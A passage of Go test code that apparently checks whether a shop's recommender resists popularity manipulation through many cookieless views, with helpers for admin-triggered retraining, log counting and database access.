	a.check("a crowd of addresses cannot make a product popular", recorded >= 1400 && retrained && strings.Contains(popular, "item_id") && !strings.Contains(popular, item) && !strings.Contains(trending, item),
		"1,500 cookieless views of %s from 60 addresses, %d recorded: in popular %t, in trending %t", cold.ExternalID, recorded, strings.Contains(popular, item), strings.Contains(trending, item))
}

// trainings counts the trainings the server finished (its log).
func (a *attack) trainings() int {
	b, _ := os.ReadFile(filepath.Join(filepath.Dir(a.dbPath), "serve.log"))
	return strings.Count(string(b), "model trained")
}

func (c *client) postWith(path string, form url.Values, header map[string]string) (*http.Response, string) {
	req, _ := http.NewRequest(http.MethodPost, c.a.base+path, strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	for k, v := range header {
		req.Header.Set(k, v)
	}
	res, err := c.hc.Do(req)
	if err != nil {
		return &http.Response{StatusCode: 0, Header: http.Header{}}, err.Error()
	}
	defer res.Body.Close()
	b, _ := io.ReadAll(res.Body)
	return res, string(b)
}

func firstLine(s string, n int) string {
	s, _, _ = strings.Cut(s, "\n")
	if len(s) > n {
		return s[:n] + "…"
	}
	return s
}

// retrainAsAdmin signs the demo admin in from addr and has the shop retrain
// from the model page (again while the training before is still busy),
// waiting (at most five minutes in all) until a training has
// finished: retrained says whether one did; ok is false, with a failed
// check, when the admin cannot sign in.
func (a *attack) retrainAsAdmin(addr string) (retrained, ok bool) {
	admin := a.client(addr)
	if s := admin.staffLogin(seed.DemoAdminEmail); s != http.StatusSeeOther {
		a.check("admin logs in", false, "%d", s)
		return false, false
	}
	trained := a.trainings()
	deadline := time.Now().Add(5 * time.Minute)
	// The training before may still be measuring its model's offline
	// figures (the trainer is busy until then): ask again until it starts.
	for time.Now().Before(deadline) {
		admin.post("/admin/model/retrain", url.Values{"_csrf": {admin.token("/admin/model")}})
		if _, page := admin.get("/admin/model"); !strings.Contains(page, "already in progress") {
			break
		}
		time.Sleep(2 * time.Second)
	}
	for a.trainings() == trained && time.Now().Before(deadline) {
		time.Sleep(time.Second)
	}
	return a.trainings() > trained, true
}

// openDB opens the shop's database beside the server, or fails the check
// named name and returns nil.
func (a *attack) openDB(name string) *models.DB {
	db, err := models.Open(a.dbPath)
	if err != nil {
		a.check(name, false, "open the database: %v", err)
		return nil
	}
	return db
}
